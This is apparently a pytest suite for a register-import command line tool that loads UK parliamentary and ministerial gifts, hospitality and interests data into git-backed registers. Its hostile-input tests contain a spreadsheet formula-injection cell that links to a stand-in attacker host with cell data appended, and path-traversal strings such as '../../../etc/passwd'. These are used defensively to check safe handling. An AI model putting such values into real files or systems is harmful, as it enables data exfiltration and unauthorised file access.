"""`coc import` through the real CLI on real git registers, fed real published registers.

The sources are slices of `/work/shared/realdata/` (House of Commons interests CSVs with a BOM,
the GOV.UK ministers' gifts and hospitality JSON with "Above limit", "Value Unknown", nil
returns and U+FFFD pound signs, City of London hospitality with free-text dates), imported
through the mapping files in tests/data. Each register's people.yaml holds the people the
slice names, as an HR user would load them before an import.
"""
from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest
from click.testing import Result
from freezegun import freeze_time

from coc.registers.yamlio import load_fast
from conftest import git

REALDATA = Path("/work/shared/realdata")
MAPPINGS = Path(__file__).parent / "data"
COMMONS_GIFTS = REALDATA / "parliament_commons_rmfi_260817_category_3.csv"
COMMONS_JOBS = REALDATA / "parliament_commons_rmfi_260817_category_1.csv"
MINISTERS = REALDATA / "govuk_ministers_gifts_hospitality_index.json"
CITY = REALDATA / "city_of_london_members_gifts_hospitality_flat.csv"
TODAY = "2026-11-24"
TITLE = re.compile(r"^(Mr|Mrs|Ms|Dr|Sir|Dame) ")

pytestmark = pytest.mark.skipif(not REALDATA.is_dir(), reason="needs /work/shared/realdata")

Coc = Callable[..., Result]


@pytest.fixture(autouse=True)
def frozen() -> Iterator[None]:
    """Source dates run to 2026-08-17; 'today' must not move under the declared_on checks."""
    with freeze_time(TODAY):
        yield


# -- helpers -------------------------------------------------------------------------------------
def people_yaml(names: list[str]) -> str:
    """The example organisation plus one member per distinct name (titles dropped, as an HR
    list would spell them), ids m0, m1, ... in order of first appearance."""
    text = (Path(__file__).parent.parent / "templates/register/people.example.yaml").read_text()
    for i, name in enumerate(dict.fromkeys(TITLE.sub("", n.strip()) for n in names if n.strip())):
        text += (f"  - id: m{i}\n    name: {json.dumps(name)}\n    email: m{i}@example.gov.uk\n"
                 "    department: members\n    job_title: Member\n    grade: F\n"
                 "    manager: hreed\n")
    return text


def csv_slice(source: Path, lines: int, dest: Path) -> list[dict[str, str]]:
    """The first `lines` physical lines of `source` (header included, BOM kept) -> `dest`."""
    raw = source.read_bytes().split(b"\n")[:lines]
    dest.write_bytes(b"\n".join(raw) + b"\n")
    with dest.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def json_slice(key: str, start: int, stop: int, dest: Path) -> list[dict[str, str]]:
    items = json.loads(MINISTERS.read_text(encoding="utf-8"))[key][start:stop]
    dest.write_text(json.dumps({key: items}, ensure_ascii=False), encoding="utf-8")
    return items


def run_import(coc: Coc, root: Path, source: Path, kind: str, *args: str,
               user: str = "hreed") -> tuple[Result, dict[str, Any]]:
    result = coc(root, "import", str(source), "--kind", kind, *args, "--json", user=user)
    assert "Traceback" not in result.output
    return result, json.loads(result.output)


def commits(root: Path) -> int:
    return int(git(root, "rev-list", "--count", "HEAD"))


def records(root: Path) -> dict[str, dict[str, Any]]:
    """Every record file in the register's working tree, by id."""
    out = {}
    for path in sorted((root / "registers").rglob("*.yaml")):
        data = load_fast(path.read_bytes(), str(path))
        out[data["id"]] = data
    return out


def validate_rules(coc: Coc, root: Path) -> tuple[int, set[str]]:
    result = coc(root, "validate", "--all", "--format", "json", user="hreed")
    return result.exit_code, {f["rule"] for f in json.loads(result.output)}


def assert_one_import_commit(root: Path, out: dict[str, Any], source: Path) -> None:
    """Every imported record in the one commit on top of init, by the HR importer."""
    assert commits(root) == 2
    assert git(root, "log", "-1", "--format=%an <%ae>").strip() == \
        "Harper Reed <harper.reed@example.gov.uk>"
    assert re.fullmatch(rf"import\([a-z-]+\): {len(out['imported'])} record\(s\) from "
                        rf"{re.escape(source.name)} by hreed",
                        git(root, "log", "-1", "--format=%s").strip())
    changed = set(git(root, "show", "--name-only", "--format=", "HEAD").split())
    assert changed == {i["path"] for i in out["imported"]}
    assert out["commit"] == git(root, "rev-parse", "HEAD").strip()
    assert git(root, "status", "--porcelain").strip() == ""


# -- each real source through its mapping --------------------------------------------------------
def test_commons_gifts_slice_imports_in_one_commit(make_register: Callable[..., Path], coc: Coc,
                                                    tmp_path: Path) -> None:
    source = tmp_path / "commons-gifts.csv"
    rows = csv_slice(COMMONS_GIFTS, 30, source)
    assert source.read_bytes().startswith(b"\xef\xbb\xbf")          # the BOM is still there
    root = make_register("luton", people=people_yaml([r["Member"] for r in rows]))
    result, out = run_import(coc, root, source, "gift",
                             "--mapping", str(MAPPINGS / "parliament-gifts.mapping.yaml"))
    assert result.exit_code == 0, result.output
    assert out["bad"] == [] and out["skipped"] == 0
    assert [i["line"] for i in out["imported"]] == list(range(2, 31))
    assert_one_import_commit(root, out, source)
    assert git(root, "log", "-1", "--format=%s").strip() == \
        "import(gift): 29 record(s) from commons-gifts.csv by hreed"
    by_id = records(root)
    first = by_id[out["imported"][0]["id"]]          # Shaun Davies, Avanti West Coast, £960
    assert first["declarant"] == "m0" and first["recorded_by"] == "hreed"
    assert first["imported_from"] == {"file": "commons-gifts.csv", "line": 2}
    assert str(first["declared_on"]) == rows[0]["Registered"] == "2026-08-17"
    assert first["details"]["donor"] == "Avanti West Coast Limited"
    assert first["details"]["value_gbp"] == "960.00" and first["details"]["outcome"] == "kept"
    assert out["imported"][0]["path"].startswith("registers/members/gift/2026/GIF-2026-")
    # "Ms Nusrat Ghani" in the source is "Nusrat Ghani" in people.yaml: titles do not matter
    ghani = [by_id[i["id"]] for i in out["imported"] if rows[i["line"] - 2]["Member"]
             == "Ms Nusrat Ghani"]
    members = list(dict.fromkeys(TITLE.sub("", r["Member"]) for r in rows))
    assert ghani and {r["declarant"] for r in ghani} == {f"m{members.index('Nusrat Ghani')}"}
    # Kept gifts over Luton's low-value limit are recorded and flagged, never refused
    code, rules = validate_rules(coc, root)
    assert (code, rules) == (1, {"gift-low-value"})


def test_commons_interests_slice_imports(make_register: Callable[..., Path], coc: Coc,
                                         tmp_path: Path) -> None:
    source = tmp_path / "commons-jobs.csv"
    rows = csv_slice(COMMONS_JOBS, 30, source)
    root = make_register("luton", people=people_yaml([r["Member"] for r in rows]))
    result, out = run_import(coc, root, source, "interest",
                             "--mapping", str(MAPPINGS / "parliament-employment.mapping.yaml"))
    assert result.exit_code == 0, result.output
    assert len(out["imported"]) == len(rows) == 29
    assert_one_import_commit(root, out, source)
    record = records(root)[out["imported"][0]["id"]]
    assert record["details"]["nature"] == "financial"
    assert record["details"]["organisation"] == "STV Productions"
    assert record["details"]["description"] == \
        "Guest on TV show: Guest on TV show - STV Productions"
    # the source does not answer Luton's public-knowledge test: a note, not a failure
    assert validate_rules(coc, root) == (0, {"public-knowledge-test"})


def test_ministers_gifts_slice_skips_nil_returns_and_reports_above_limit(
        make_register: Callable[..., Path], coc: Coc, tmp_path: Path) -> None:
    source = tmp_path / "ministers.json"
    items = json_slice("gifts", 155, 185, source)
    root = make_register("luton", people=people_yaml([i["minister"] for i in items]))
    mapping = str(MAPPINGS / "ministers-gifts.mapping.yaml")
    result, out = run_import(coc, root, source, "gift", "--mapping", mapping)
    assert result.exit_code == 1 and out["imported"] == [] and commits(root) == 1
    above = [f"gifts[{i}]" for i, item in enumerate(items) if item["value"] == "Above limit"]
    assert [b["path"] for b in out["bad"]] == [f"{source}:{w}" for w in above]
    assert {b["field"] for b in out["bad"]} == {"details.value_gbp"}
    assert all("'Above limit' is not an amount" in b["message"] for b in out["bad"])

    result, out = run_import(coc, root, source, "gift", "--mapping", mapping, "--skip-bad")
    assert result.exit_code == 0, result.output
    good = [f"gifts[{i}]" for i, item in enumerate(items) if item["value"].startswith("£")]
    assert [i["item"] for i in out["imported"]] == good and len(good) == 9
    nil = sum(1 for item in items if item["value"].lower() == "nil return")
    assert out["skipped"] == nil == 15
    assert_one_import_commit(root, out, source)
    by_id = records(root)
    lammy = by_id[out["imported"][1]["id"]]                  # "£690.36", Held by department
    assert lammy["details"]["value_gbp"] == "690.36" and lammy["details"]["outcome"] == "donated"
    assert lammy["imported_from"] == {"file": "ministers.json", "item": "gifts[4]"}
    assert by_id[out["imported"][2]["id"]]["details"]["outcome"] == "returned"  # Return pending


def test_ministers_hospitality_reads_mangled_pound_signs(make_register: Callable[..., Path],
                                                         coc: Coc, tmp_path: Path) -> None:
    source = tmp_path / "ministers-hospitality.json"
    items = json_slice("hospitality", 225, 245, source)
    assert any(i["value"].startswith("\ufffd") for i in items)
    root = make_register("luton", people=people_yaml([i["minister"] for i in items]))
    result, out = run_import(coc, root, source, "hospitality", "--skip-bad",
                             "--mapping", str(MAPPINGS / "ministers-hospitality.mapping.yaml"))
    assert result.exit_code == 0, result.output
    assert_one_import_commit(root, out, source)
    by_item = {i["item"]: records(root)[i["id"]] for i in out["imported"]}
    for i, item in enumerate(items):
        if item["value"].startswith("\ufffd"):
            amount = item["value"][1:]
            assert by_item[f"hospitality[{i}]"]["details"]["value_gbp"] == f"{amount}.00"
    reed = by_item["hospitality[8]"]
    assert reed["details"] == {"date": reed["details"]["date"], "host": "Royal Cornwall Show",
                               "event": "Lunch and ticket", "purpose": "work",
                               "value_gbp": "35.00", "outcome": "accepted"}
    assert str(reed["details"]["date"]) == "2025-06-05"
    assert len(out["imported"]) + len(out["bad"]) + out["skipped"] == len(items)
    assert validate_rules(coc, root)[0] == 0


def test_city_of_london_free_text_dates(make_register: Callable[..., Path], coc: Coc,
                                        tmp_path: Path) -> None:
    source = tmp_path / "city.csv"
    rows = csv_slice(CITY, 40, source)
    root = make_register("luton", people=people_yaml([r["member_name"] for r in rows]))
    result, out = run_import(coc, root, source, "hospitality", "--skip-bad",
                             "--mapping", str(MAPPINGS / "city-of-london-hospitality.mapping.yaml"))
    assert result.exit_code == 0, result.output
    lines = {b["line"]: b for b in out["bad"]}
    # empty dates (lines 5-9) and "Thursday 23 February 2017" (line 36) are reported, not guessed
    assert {5, 6, 7, 8, 9, 36} <= set(lines)
    assert lines[5]["message"] == "required, but column 'date_str' is empty"
    assert "'Thursday 23 February 2017' is not a date" in lines[36]["message"]
    good = {i["line"] for i in out["imported"]}
    assert good == {n + 2 for n, r in enumerate(rows)} - set(lines)
    assert_one_import_commit(root, out, source)
    by_line = {i["line"]: records(root)[i["id"]] for i in out["imported"]}
    assert str(by_line[2]["details"]["date"]) == "2017-11-14"       # 14/11/2017
    assert str(by_line[10]["details"]["date"]) == "2016-06-13"      # 13 June 2016
    assert validate_rules(coc, root)[0] == 0


def test_whole_commons_gifts_file_dry_run(make_register: Callable[..., Path], coc: Coc) -> None:
    with COMMONS_GIFTS.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    root = make_register("luton", people=people_yaml([r["Member"] for r in rows]))
    result, out = run_import(coc, root, COMMONS_GIFTS, "gift", "--dry-run",
                             "--mapping", str(MAPPINGS / "parliament-gifts.mapping.yaml"))
    # two rows in the official register were received after they were registered
    assert result.exit_code == 1
    assert [(b["line"], b["field"]) for b in out["bad"]] == \
        [(431, "details.received_on"), (638, "details.received_on")]
    assert "2025-11-06 is after the day it was declared (2025-11-03)" in out["bad"][0]["message"]
    assert len(out["imported"]) == len(rows) - 2 and out["commit"] is None
    assert commits(root) == 1 and not (root / "registers" / "members").exists()


# -- all or nothing, --skip-bad, --dry-run --------------------------------------------------------
HEADER = "declarant,received_on,donor,description,value_gbp,outcome\n"


@pytest.fixture
def small(make_register: Callable[..., Path]) -> Path:
    return make_register("luton", people=people_yaml(["Ann Lee", "Bob Roy"]))


def test_a_bad_row_stops_the_import_and_is_reported_by_line(small: Path, coc: Coc,
                                                            tmp_path: Path) -> None:
    source = tmp_path / "gifts.csv"
    source.write_text(HEADER + "m0,2026-03-01,Acme,Pen,£12.50,kept\n"
                      "m1,2026-13-01,Acme,Pen,12,kept\n"
                      "m0,2026-03-02,Acme,Mug,lots,binned\n"
                      "m1,2026-03-03,Acme,Diary,5,shared-with-team\n")
    result = coc(small, "import", str(source), "--kind", "gift", user="hreed")
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert lines[0] == (f"{source}:3: details.received_on: error: '2026-13-01' is not a date in "
                        "the form YYYY-MM-DD (column 'received_on') (import-row)")
    assert lines[1].startswith(f"{source}:4: details.value_gbp: error: 'lots' is not an amount")
    assert "details.outcome: 'binned' is not one of: kept," in lines[1]
    assert lines[2] == ("Nothing imported: 2 bad row(s). Fix them, or use --skip-bad to import "
                        "the 2 good row(s).")
    assert len(lines) == 3
    assert commits(small) == 1 and not (small / "registers" / "members").exists()
    assert git(small, "status", "--porcelain").strip() == ""

    result = coc(small, "import", str(source), "--kind", "gift", "--skip-bad", user="hreed")
    assert result.exit_code == 0
    assert result.output.splitlines()[:2] == lines[:2]
    assert "Imported 2 gift record(s)" in result.output and "2 bad row(s) skipped" in result.output
    assert commits(small) == 2
    assert sorted(r["imported_from"]["line"] for r in records(small).values()) == [2, 5]

    # the same rows again are duplicates of what is now recorded, never imported twice
    result, out = run_import(coc, small, source, "gift", "--skip-bad")
    assert result.exit_code == 1 and out["imported"] == [] and commits(small) == 2
    assert "the same gift of m0 is already GIF-" in out["bad"][0]["message"]


def test_line_numbers_count_the_lines_inside_quoted_cells(small: Path, coc: Coc,
                                                          tmp_path: Path) -> None:
    source = tmp_path / "gifts.csv"
    source.write_text(HEADER + 'm0,2026-03-05,Acme,"a pen\nand a pad",12,kept\n'
                      "m0,2026-03-01,Acme,Pen,x,kept\n")
    result, out = run_import(coc, small, source, "gift")
    assert result.exit_code == 1
    assert [(b["path"], b["line"]) for b in out["bad"]] == [(str(source), 4)]


def test_dry_run_writes_nothing(small: Path, coc: Coc, tmp_path: Path) -> None:
    source = tmp_path / "gifts.csv"
    source.write_text(HEADER + "m0,2026-03-01,Acme,Pen,12.50,kept\n")
    result = coc(small, "import", str(source), "--kind", "gift", "--dry-run", user="hreed")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == f"Would import 1 gift record(s) from {source}."
    assert commits(small) == 1 and not (small / "registers" / "members").exists()
    assert git(small, "status", "--porcelain").strip() == ""


def test_only_hr_imports_other_peoples_declarations(small: Path, coc: Coc,
                                                    tmp_path: Path) -> None:
    source = tmp_path / "gifts.csv"
    source.write_text(HEADER + "m0,2026-03-01,Acme,Pen,12.50,kept\n")
    result = coc(small, "import", str(source), "--kind", "gift", user="jsmith")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        f"{source}:2: declarant: error: only HR imports others' declarations: jsmith does not "
        "have the hr role (import-row)")
    assert commits(small) == 1
    # without a declarant column every row is the importer's own, which anyone may import
    own = tmp_path / "own.csv"
    own.write_text(HEADER.replace("declarant,", "") + "2026-03-01,Acme,Pen,12.50,kept\n")
    result = coc(small, "import", str(own), "--kind", "gift", user="jsmith")
    assert result.exit_code == 0, result.output
    (record,) = records(small).values()
    assert record["declarant"] == record["recorded_by"] == "jsmith"
    assert git(small, "log", "-1", "--format=%ae").strip() == "jane.smith@example.gov.uk"


def test_formula_cells_are_stored_as_inert_text(small: Path, coc: Coc, tmp_path: Path) -> None:
    source = tmp_path / "gifts.csv"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with source.open("w", newline="") as f:
        csv.writer(f).writerows([HEADER.strip().split(","),
                                 ["m0", "2026-03-01", formula, "@SUM(A1:A9)", "12", "kept"]])
    result = coc(small, "import", str(source), "--kind", "gift", user="hreed")
    assert result.exit_code == 0, result.output
    (record,) = records(small).values()
    assert record["details"]["donor"] == formula
    assert record["details"]["description"] == "@SUM(A1:A9)"
    assert validate_rules(coc, small) == (0, set())


def test_a_declarant_not_in_people_yaml_names_the_row(small: Path, coc: Coc,
                                                      tmp_path: Path) -> None:
    source = tmp_path / "gifts.csv"
    source.write_text("member,received_on,donor,description,value_gbp,outcome\n"
                      "Ann Lee,2026-03-01,Acme,Pen,12.50,kept\n"
                      "Zed Unknown,2026-03-01,Acme,Pen,12.50,kept\n")
    mapping = tmp_path / "m.yaml"
    mapping.write_text("declarant: {column: member, match: name}\nfields:\n"
                       "  received_on: received_on\n  donor: donor\n  description: description\n"
                       "  value_gbp: value_gbp\n  outcome: outcome\n")
    result = coc(small, "import", str(source), "--kind", "gift", "--mapping", str(mapping),
                 user="hreed")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        f"{source}:3: declarant: error: no one in people.yaml has the name 'Zed Unknown' "
        "(import-row)")
    assert commits(small) == 1


# -- hostile input --------------------------------------------------------------------------------
@pytest.mark.parametrize("name, content, message", [
    ("latin1.csv",
     HEADER.encode() + "m0,2026-03-01,Caf\xe9 Rouge,Pen,\xa312,kept\n".encode("cp1252"),
     ":2: not utf-8 (byte 0xe9): save it as UTF-8, or set `source: {encoding: cp1252}` in the "
     "mapping"),
    ("nul.csv", HEADER.encode() + b"m0,2026-03-01,Acme\x00,Pen,12,kept\n",
     ":2: NUL byte: this is not a text file (save the sheet as CSV)"),
    ("broken.json", b'{"gifts": [', ":1: invalid JSON: Expecting value"),
    ("deep.json", b"[" * 100_000, ": invalid JSON: nested too deeply"),
    ("table.xlsx", b"PK\x03\x04", ": cannot tell the format: name the file .csv or .json, or "
     "set source.format in the mapping"),
])
def test_hostile_files_get_one_line_errors(small: Path, coc: Coc, tmp_path: Path, name: str,
                                           content: bytes, message: str) -> None:
    source = tmp_path / name
    source.write_bytes(content)
    result = coc(small, "import", str(source), "--kind", "gift", user="hreed")
    assert result.exit_code == 1
    assert result.output == f"coc: error: {source}{message}\n"
    assert commits(small) == 1


def test_huge_and_missing_files_are_refused(small: Path, coc: Coc, tmp_path: Path) -> None:
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:
        f.truncate(21 * 1024 * 1024)          # sparse: the size is refused before any read
    result = coc(small, "import", str(huge), "--kind", "gift", user="hreed")
    assert (result.exit_code, result.output) == (1, (
        f"coc: error: {huge}: file is 22020096 bytes, over the 20971520-byte limit for one "
        "import: split it\n"))
    missing = tmp_path / "nope.csv"
    result = coc(small, "import", str(missing), "--kind", "gift", user="hreed")
    assert (result.exit_code, result.output) == (
        1, f"coc: error: {missing}: cannot read: No such file or directory\n")


def test_a_path_in_a_cell_never_reaches_the_filesystem(small: Path, coc: Coc,
                                                       tmp_path: Path) -> None:
    source = tmp_path / "gifts.csv"
    source.write_text(HEADER + "../../../etc/passwd,2026-03-01,Acme,Pen,12,kept\n"
                      "m0,2026-03-01,/etc/passwd,../../coc.yaml,12,kept\n")
    result = coc(small, "import", str(source), "--kind", "gift", user="hreed")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        f"{source}:2: declarant: error: no one in people.yaml has the id '../../../etc/passwd' "
        "(import-row)")
    result = coc(small, "import", str(source), "--kind", "gift", "--skip-bad", user="hreed")
    assert result.exit_code == 0
    (record,) = records(small).values()           # text, in the declarant's own folder
    assert record["details"]["donor"] == "/etc/passwd"
    assert git(small, "show", "--name-only", "--format=", "HEAD").strip().startswith(
        "registers/members/gift/2026/GIF-2026-")


@pytest.mark.parametrize("mapping, message", [
    ("fields:\n  id: ID\n", "fields.id: 'id' cannot be mapped: ids are always generated"),
    ("fields:\n  colour: x\n", "fields.colour: gift has no field 'colour'"),
    ("fields:\n  donor: NoSuchColumn\n", "column 'NoSuchColumn' is not in"),
    ("fields: [\n", "invalid YAML"),
    ("source: {encoding: ebcdic}\nfields: {donor: donor}\n",
     "source.encoding: must be one of: utf-8, cp1252, latin-1"),
])
def test_bad_mapping_files_get_one_line_errors(small: Path, coc: Coc, tmp_path: Path,
                                               mapping: str, message: str) -> None:
    source = tmp_path / "gifts.csv"
    source.write_text(HEADER + "m0,2026-03-01,Acme,Pen,12,kept\n")
    mapping_file = tmp_path / "m.yaml"
    mapping_file.write_text(mapping)
    result = coc(small, "import", str(source), "--kind", "gift", "--mapping", str(mapping_file),
                 user="hreed")
    assert result.exit_code == 1
    assert len(result.output.splitlines()) == 1 and message in result.output
    assert result.output.startswith(f"coc: error: {mapping_file}")
    assert commits(small) == 1
